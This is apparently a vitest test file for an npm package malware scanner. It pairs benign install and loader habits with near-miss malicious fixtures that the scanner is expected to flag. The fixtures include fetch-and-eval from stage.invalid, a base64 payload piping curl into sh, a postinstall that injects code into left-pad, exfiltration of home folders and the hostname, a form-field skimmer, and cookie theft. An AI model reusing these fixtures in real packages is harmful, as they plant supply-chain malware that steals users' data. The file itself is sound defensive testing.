import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/scan.js';

/**
 * Habits of packages that everybody has installed, each beside the deed that it is a near miss of. What is told of the
 * honest one may be less, or weigh less; the other must still be looked at by a person.
 */
interface Pair {
  readonly habit: string;
  readonly honest: Readonly<Record<string, string | Uint8Array>>;
  readonly deed: string;
  readonly harmful: Readonly<Record<string, string | Uint8Array>>;
}

const manifest = (fields: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({
    name: 'a',
    version: '1.0.0',
    description: 'Tests what you wrote',
    repository: 'https://git.invalid/a',
    main: 'index.js',
    ...fields,
  });
const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);

const FOLDERS = `const open = new WeakMap();\nconst folders = { home: require('os').homedir(), own: __dirname };\nopen.set(exports, folders);`;

const latest = (address: string): string =>
  `const fs = require('fs');\nfetch('${address}').then(r => r.text()).then(text => fs.writeFileSync('latest.json', text));`;

const loader = (address: string): string => `
const { SourceTextModule } = require('vm');
class Loader {
  async compile(url, code) {
    return new SourceTextModule(await code(), { identifier: url, importModuleDynamically: this.load });
  }
  remote(url) { return this.compile(url, () => fetch(${address}).then(answer => answer.text())); }
}
exports.link = (module, host) => module.link(specifier => new Loader().remote(host.where(specifier)));`;

const fromDataAddress = (address: string): string => `
const vm = require('vm');
const { workerData } = require('worker_threads');
function open(url) {
  let [all, type, encoding, data] = url.match(/^data:([^;,]*)(?:;([^,]*))?,(.*)$/) || [];
  if (!all) throw new Error('no data: address');
  if (encoding === 'base64') data = Buffer.from(data, 'base64').toString();
  return { type, data };
}
vm.runInThisContext(open(${address}).data);`;

const PAYLOAD = Buffer.from(`require('child_process').exec('curl -s https://stage.invalid | sh')`).toString('base64');

const installer = (name: string): Pair['honest'] => ({
  'package.json': manifest({ name, scripts: { postinstall: 'node install.js' } }),
  'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];`,
  'install.js': `const https = require('https'), fs = require('fs');
const get = url => https.get(url, answer => answer.pipe(fs.createWriteStream('tool.zip')));
if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.platform + '.zip');`,
  'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
});

/** What a server for development has a page do. */
const told = (address: string): string => `
const protocol = window.location.protocol === 'https:' ? 'wss' : 'ws';
const socket = new WebSocket(${address});
socket.onmessage = message => {
  const { id, code } = JSON.parse(String(message.data));
  const script = document.createElement('script');
  script.text = code;
  script.setAttribute('data-id', id);
  document.head.appendChild(script);
};`;

/** The memory of a program of WebAssembly, as bytes and as numbers, and a text in it. */
const withMemory = (own: string): string => `
let bytes, shorts, longs;
function look(memory) { bytes = new Uint8Array(memory); shorts = new Int16Array(memory); longs = new Int32Array(memory); }
function textAt(list, at) { let end = at; while (list[end]) end++; return new TextDecoder().decode(list.subarray(at, end)); }
const env = {
  run: at => run(at),
  load: (from, to) => fetch(textAt(bytes, from)).then(answer => answer.arrayBuffer()).then(loaded => bytes.set(new Uint8Array(loaded), to)),
};
WebAssembly.instantiateStreaming(fetch('core.wasm'), { env }).then(({ instance }) => look(instance.exports.memory.buffer));
${own}`;

/** What a compiler of another language adds to what it makes, so that it runs in pages. */
const runtime = (own: string): string => `
var Module = {};
if (typeof window === 'object') Module.read = function (url) { var asked = new XMLHttpRequest; asked.open('GET', url, false); asked.send(null); return asked.responseText; };
function globalEval(text) { eval.call(null, text); }
if (!Module.load && Module.read) Module.load = function (url) { globalEval(Module.read(url)); };
var memory = Module.read('${own}');
module.exports = Module;`;

const bisect = (around: (code: string) => string): string => `
import { spawn } from 'node:child_process';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import yargs from 'yargs';
${around(`
  const script = join(homedir(), 'bisect.py');
  const answer = await fetch('https://sources.invalid/tools/bisect.py?format=TEXT');
  writeFileSync(script, Buffer.from(await answer.text(), 'base64').toString(), { mode: 0o755 });
  spawn('python3', [script, '-g', '100'], { stdio: 'inherit' });
`)}`;

const evaluated = (address: string): Readonly<Record<string, string>> => ({
  'package.json': manifest({}),
  'index.js': `const { load } = require('./load');\nexports.open = url => load(${address}).then(({ body, status }) => { if (status === 200) return eval(body); });`,
  'load.js': `exports.load = async url => { const answer = await fetch(url, { method: 'GET' }); return { body: await answer.text(), status: answer.status }; };`,
});

const driver = (program: string, words: string): Pair['honest'] => ({
  'package.json': manifest({
    name: 'panedriver',
    description: 'Downloads and starts the driver of a browser',
    scripts: { postinstall: 'node install.js' },
  }),
  'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];\nexports.start = () => require('child_process').spawn(__dirname + '/${program}', ['--port=9515']);`,
  'install.js': `const https = require('https'), fs = require('fs'), { spawn } = require('child_process'), path = require('path');
const target = path.join(__dirname, '${program}');
https.get('https://storage.googleapis.com/pane-releases/' + process.platform, answer => {
  const out = fs.createWriteStream(target);
  answer.pipe(out).on('close', () => { fs.chmodSync(target, 0o755); spawn(target, ${words}); });
});`,
});

const publishing = `
const { readFileSync } = require('fs'), { join } = require('path'), { homedir } = require('os');
const { publish } = require('libnpmpublish');
exports.publish = async (manifest, archive) => {
  const [, token] = /_authToken=(.+)/.exec(readFileSync(join(homedir(), '.npmrc'), 'utf8')) ?? [];
  return publish(manifest, archive, { forceAuth: { token } });
};`;

const named = (address: string): string => `
class WorkerLoader {
  load(manager, url, done) {
    fetch(${address}).then(answer => answer.text()).then(text => {
      text = \`\${text}\\n//# sourceURL=\${url}\`;
      new Function(text).call(self);
      done();
    });
  }
}
class Manager {
  constructor(loader) { this.loader = loader; }
  require(id) { for (const root of this.config.paths[id]) this.loader.load(this, root, () => {}); }
}
exports.start = () => new Manager(new WorkerLoader());`;

const lookUp = (name: string, code: string): string => `
const fs = require('fs');
const main = require.resolve('${name}');
fs.writeFileSync(main, fs.readFileSync(main, 'utf8') + ${JSON.stringify(code)});`;

const pairs: readonly Pair[] = [
  {
    habit: 'an installer asks the program that the package is called after for its version',
    honest: driver('panedriver.exe', `['--version']`),
    deed: 'it starts another in the background',
    harmful: driver('helper.exe', `[], { detached: true, stdio: 'ignore' }`),
  },
  {
    habit: 'a tool publishes what its user made, with the token that its user keeps',
    honest: {
      'package.json': manifest({
        description: 'A build system for managing and publishing many packages of one repository',
      }),
      'index.js': publishing,
    },
    deed: 'the package is said to be for something else',
    harmful: { 'package.json': manifest({ description: 'Sorts lists' }), 'index.js': publishing },
  },
  {
    habit: 'what a compiler adds loads a file that lies beside the page',
    honest: { 'package.json': manifest({}), 'index.js': runtime('codec.js.mem') },
    deed: 'it lies elsewhere',
    harmful: {
      'package.json': manifest({}),
      'index.js': `${runtime('codec.js.mem')}\nModule.load('https://stage.invalid/codec.js');`,
    },
  },
  {
    habit: 'a tool fetches a script and runs it, for one of its commands',
    honest: {
      'package.json': manifest({ bin: 'index.mjs', main: 'index.mjs' }),
      'index.mjs': bisect(
        code =>
          `yargs(process.argv).scriptName('tool').command('list', 'Lists', () => {}).command('bisect <path>', 'Finds where it broke', all => all.option('good'), async () => {${code}}).help().parse();`,
      ),
    },
    deed: 'it does so as soon as it is loaded',
    harmful: {
      'package.json': manifest({ main: 'index.mjs' }),
      'index.mjs': bisect(code => `yargs(process.argv).command('list', 'Lists', () => {}).parse();\n${code}`),
    },
  },
  {
    habit: 'a loader that is spread over files evaluates what its caller names',
    honest: evaluated('url'),
    deed: 'the address stands in the package',
    harmful: evaluated(`'https://stage.invalid/next.js'`),
  },
  {
    habit: 'a loader calls what it fetched by its address',
    honest: { 'package.json': manifest({}), 'index.js': named('url') },
    deed: 'the address is its own',
    harmful: { 'package.json': manifest({}), 'index.js': named(`'https://stage.invalid/next.js'`) },
  },
  {
    habit: 'a hook asks its own project’s service, at the owner of many, for settings and keeps them',
    honest: {
      'package.json': manifest({ name: '@acmetool/util', scripts: { postinstall: 'node hook.js' } }),
      'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];`,
      'hook.js': `fetch('https://acmetool.googleapis.com/v1/settings').then(r => r.text()).then(text => require('fs').writeFileSync('settings.js', text));`,
    },
    deed: 'the service has another name',
    harmful: {
      'package.json': manifest({ name: '@acmetool/util', scripts: { postinstall: 'node hook.js' } }),
      'index.js': 'exports.fine = true;',
      'hook.js': `fetch('https://storage.googleapis.com/acmetool/settings').then(r => r.text()).then(text => { require('fs').writeFileSync('settings.js', text); require('./settings.js'); });`,
    },
  },
  {
    habit: 'a loader of modules fetches what the code it runs imports',
    honest: { 'package.json': manifest({}), 'index.js': loader('url') },
    deed: 'the address stands in the package',
    harmful: { 'package.json': manifest({}), 'index.js': loader(`'https://stage.invalid/next.mjs'`) },
  },
  {
    habit: 'a page asks for the index that its own markup names',
    honest: {
      'package.json': manifest({}),
      'index.js': 'exports.fine = true;',
      'docs/main.js': `$.get($('#search').attr('data-index')).done(source => { eval(source); });`,
    },
    deed: 'it asks somebody else',
    harmful: {
      'package.json': manifest({}),
      'index.js': `const $ = require('jquery');\n$.get('https://stage.invalid/next.js').done(source => { eval(source); });`,
    },
  },
  {
    habit: 'a worker is started from the data: address that its user gave',
    honest: { 'package.json': manifest({}), 'index.js': fromDataAddress('workerData.url') },
    deed: 'the address is brought along',
    harmful: {
      'package.json': manifest({}),
      'index.js': fromDataAddress(`'data:text/javascript;base64,${PAYLOAD}'`),
    },
  },
  {
    habit: 'a script that starts nothing keeps a program of the package when it tidies up',
    honest: {
      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
      'tidy.js': `const fs = require('fs'), path = require('path');\nconst kept = [path.join('build', 'pty-helper')];\nfor (const file of fs.readdirSync('build')) if (!kept.includes(path.join('build', file))) fs.unlinkSync(path.join('build', file));`,
      'index.js': `exports.open = () => require('child_process').spawn(require('path').join(__dirname, 'prebuilds/pty-helper'));`,
      'prebuilds/pty-helper': ELF,
    },
    deed: 'another script that it loads starts it',
    harmful: {
      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
      'tidy.js': `const path = require('path');\nrequire('./steps')(path.join(__dirname, 'prebuilds', 'pty-helper'));`,
      'steps.js': `module.exports = path => require('child_process').spawn(path);`,
      'index.js': 'exports.fine = true;',
      'prebuilds/pty-helper': ELF,
    },
  },
  {
    habit: 'an installer fetches what its platform needs, unless its user says otherwise',
    honest: installer('acmetool'),
    deed: 'the variable has the name of the package that the installer was copied from',
    harmful: installer('acmetoo1'),
  },
  {
    habit: 'a page in development is told by its own server what to run',
    honest: {
      'package.json': manifest({ description: 'A bundler for pages' }),
      'index.js': told('`${protocol}://${window.location.host}/message`'),
    },
    deed: 'somebody else’s server tells it',
    harmful: {
      'package.json': manifest({ description: 'A bundler for pages' }),
      'index.js': told(`'wss://stage.invalid/message'`),
    },
  },
  {
    habit: 'a run-time for Node.js and pages reads a file beside itself, and can load code from where it is told',
    honest: {
      'package.json': manifest({ description: 'Packs bytes' }),
      'index.js': runtime(`Module.start = __dirname + '/'; Module.read(Module.start + 'core.mem');`),
    },
    deed: 'it loads what it fetches',
    harmful: {
      'package.json': manifest({ description: 'Packs bytes' }),
      'index.js': `${runtime('')}\nfetch('https://stage.invalid/next').then(r => r.text()).then(globalEval);`,
    },
  },
  {
    habit: 'services are set up for whoever calls',
    honest: {
      'package.json': manifest({ description: 'Sets up services of macOS and Linux' }),
      'index.js': `const { exec } = require('child_process');\nexports.enable = name => exec('systemctl enable ' + name);\nexports.load = file => exec('launchctl load ' + file);`,
    },
    deed: 'one is set up as soon as the package is loaded, with what it fetches',
    harmful: {
      'package.json': manifest({ description: 'Sets up services of macOS and Linux' }),
      'index.js': `const { exec } = require('child_process');\nconst enable = name => exec('curl -s https://stage.invalid/unit > /etc/systemd/system/a.service && systemctl enable ' + name);\nenable('a');`,
    },
  },
  {
    habit: 'a program of another language has the page run what it points at in its memory',
    honest: {
      'package.json': manifest({ description: 'An interpreter in the page' }),
      'index.js': withMemory(`function run(at) { eval(textAt(bytes, at)); }`),
    },
    deed: 'what is run was fetched',
    harmful: {
      'package.json': manifest({ description: 'An interpreter in the page' }),
      'index.js': withMemory(
        `fetch('https://stage.invalid/next').then(answer => answer.arrayBuffer()).then(next => eval(textAt(new Uint8Array(next), 0)));`,
      ),
    },
  },
  {
    habit: 'a tool of its authors was left in a folder that nothing opens',
    honest: {
      'package.json': manifest({ description: 'Draws on paper' }),
      'index.js': 'exports.fine = true;',
      '.tools/releases/manager.cjs': `const { spawn } = require('child_process');\nrequire('https').get(process.argv[2], answer => spawn('tar', ['x']).stdin.end(answer));`,
    },
    deed: 'the package loads it, and it runs what it fetches',
    harmful: {
      'package.json': manifest({ description: 'Draws on paper' }),
      'index.js': `require('./.tools/releases/manager.cjs');`,
      '.tools/releases/manager.cjs': `fetch('https://stage.invalid').then(r => r.text()).then(text => eval(text));`,
    },
  },
  {
    habit: 'an installer looks up its own package, to put a program beside its code',
    honest: {
      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
      'index.js': 'exports.fine = true;',
      'install.js': lookUp('swiftcut', ''),
    },
    deed: 'it looks up another, and leaves code there',
    harmful: {
      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
      'index.js': 'exports.fine = true;',
      'install.js': lookUp('left-pad', `fetch('https://stage.invalid').then(r => r.text()).then(eval)`),
    },
  },
  {
    habit: 'rows that some object gives are sent, which was made with folders',
    honest: {
      'package.json': manifest({ description: 'A small database' }),
      'index.js': `${FOLDERS}\nconst rows = open.get(exports).bridge.subscribe(folders);\nfetch(exports.url, { method: 'POST', body: JSON.stringify(rows) });`,
    },
    deed: 'the folders themselves are, with the host',
    harmful: {
      'package.json': manifest({ description: 'A small database' }),
      'index.js': `${FOLDERS}\nfetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ ...folders, host: require('os').hostname() }) });`,
    },
  },
  {
    habit: 'a hook asks for the newest of its own files, where those of all packages are to be had',
    honest: {
      'package.json': manifest({ name: 'weavers', scripts: { postinstall: 'node latest.js' } }),
      'index.js': `exports.weave = threads => threads.map(thread => thread.trim()).join(' ');\n`.repeat(50),
      'latest.js': latest('https://unpkg.com/weavers/adapters.json'),
    },
    deed: 'it asks somebody else for them',
    harmful: {
      'package.json': manifest({ name: 'weavers', scripts: { postinstall: 'node latest.js' } }),
      'index.js': `exports.weave = threads => threads.map(thread => thread.trim()).join(' ');\n`.repeat(50),
      'latest.js': latest('https://stage.invalid/weavers/adapters.json'),
    },
  },
  {
    habit: 'a run-time of another language loads and runs the file that it is told to',
    honest: {
      'package.json': manifest({ description: 'A small language' }),
      'index.js': `const load = path => { const r = new XMLHttpRequest(); r.open('GET', path, false); r.send(); return r.responseText; };\nconst HEAPU8 = new Uint8Array(8), UTF8ToString = at => String(at);\nexports.load = path => eval(load(path));\nexports.news = () => { const r = new XMLHttpRequest(); r.open('GET', 'https://language.invalid/news.json'); r.send(); };`,
    },
    deed: 'the file is always the same, of somebody else',
    harmful: {
      'package.json': manifest({ description: 'A small language' }),
      'index.js': `const load = () => { const r = new XMLHttpRequest(); r.open('GET', 'https://stage.invalid/a.js', false); r.send(); return r.responseText; };\nexports.load = () => eval(load());`,
    },
  },
  {
    habit: 'a form says how many of its fields are filled in',
    honest: {
      'package.json': manifest({ description: 'Masks for fields of forms' }),
      'index.js': `export function watch(form, tell) { form.addEventListener('blur', () => tell([...document.querySelectorAll('input')].map(field => field.type).length)); }`,
    },
    deed: 'it says what is in them, to somebody else',
    harmful: {
      'package.json': manifest({ description: 'Masks for fields of forms' }),
      'index.js': `export function watch(form) { form.addEventListener('blur', () => { new Image().src = 'https://pixel.invalid/p.gif?d=' + btoa([...document.querySelectorAll('input')].map(field => field.name + '=' + field.value).join('&')); }); }`,
    },
  },
  {
    habit: 'a cookie is kept where the caller wants it kept',
    honest: {
      'package.json': manifest({ description: 'Parses what browsers send' }),
      'index.js': `const { createClient } = require('@supabase/supabase-js');\nexports.keep = (url, key, cookie) => createClient(url, key).from('sessions').insert({ cookie }).then(() => {});`,
    },
    deed: 'it is kept in a place of the package’s own',
    harmful: {
      'package.json': manifest({ description: 'Parses what browsers send' }),
      'index.js': `const { createClient } = require('@supabase/supabase-js');\nconst db = createClient('https://abcd.store.invalid', 'public-key-0000000000');\nexports.parse = cookie => { db.from('c').insert({ cookie }).then(() => {}); return cookie.split('; '); };`,
    },
  },
];

describe.each(pairs)('$habit', ({ honest, deed, harmful }) => {
  test('is no alarm', async () => {
    const { verdict, findings } = await scanPackage({ files: honest });
    expect(findings.filter(({ bits }) => bits > 5).map(({ message }) => message)).toEqual([]);
    expect(['clean', 'note']).toContain(verdict);
  });

  test(`but is one where ${deed}`, async () => {
    expect(['suspicious', 'malicious']).toContain((await scanPackage({ files: harmful })).verdict);
  });
});
